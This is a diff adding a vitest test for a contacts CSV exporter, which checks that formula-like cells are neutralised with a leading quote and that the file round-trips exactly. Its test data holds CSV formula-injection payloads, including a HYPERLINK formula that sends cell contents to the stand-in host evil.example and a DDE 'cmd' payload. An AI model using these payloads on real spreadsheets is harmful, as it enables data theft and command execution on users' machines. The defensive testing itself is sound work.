@@ -1,5 +1,21 @@
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { CsvLayoutError, parseContactsCsv, writeContactsCsv } from './contacts-csv.js';
+
+/** Cells a spreadsheet would evaluate: every OWASP trigger character, with typical payloads after it. */
+const triggers = ['=', '+', '-', '@', '\t', '\r'];
+const payloads = [
+  'HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  "cmd|' /C calc'!A0",
+  'SUM(1+1)*cmd',
+  '2+3',
+];
+const formulaValues = [
+  ...triggers.flatMap((t) => payloads.map((p) => `${t}${p}`)),
+  // Already quoted once or twice: one more quote keeps the round trip exact.
+  "'=1+2",
+  "''@SUM(A1)",
+];
 
 describe('contacts CSV', () => {
   it('reads Google rows: several addresses in one cell, the primary mark, labels as groups, line numbers', () => {
@@ -51,5 +67,32 @@ describe('contacts CSV', () => {
       emails: [{ value: 'anna@x.ru', label: 'work' }],
     });
     expect(back.categories).toEqual(['Коллеги']);
+  });
+
+  it('neutralises every formula cell with a leading quote, and reads its own output back unchanged', () => {
+    const contacts = formulaValues.map((value, i) => ({
+      fields: {
+        fullName: value,
+        emails: [{ value: `p${i}@example.test`, label: value.slice(0, 20) }],
+        phones: [{ value: `+358 40 ${i}`, label: 'mobile' }],
+        organization: value,
+        notes: value,
+      },
+      groups: [value],
+    }));
+    const csv = writeContactsCsv(contacts);
+    const cells = (parse(csv, { relax_column_count: true }) as string[][]).slice(1).flat();
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells).toContain('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")');
+    expect(cells).toContain("'+358 40 0");
+    const back = parseContactsCsv(csv, null).rows;
+    expect(back).toHaveLength(contacts.length);
+    back.forEach((row, i) => {
+      // The import trims cells, so a leading TAB or CR does not come back (it never did).
+      const value = formulaValues[i]!.trim();
+      expect(row.fields).toMatchObject({ fullName: value, organization: value, notes: value });
+      expect(row.fields.phones[0]!.value).toBe(`+358 40 ${i}`);
+      expect(row.categories).toEqual([value]);
+    });
   });
 });
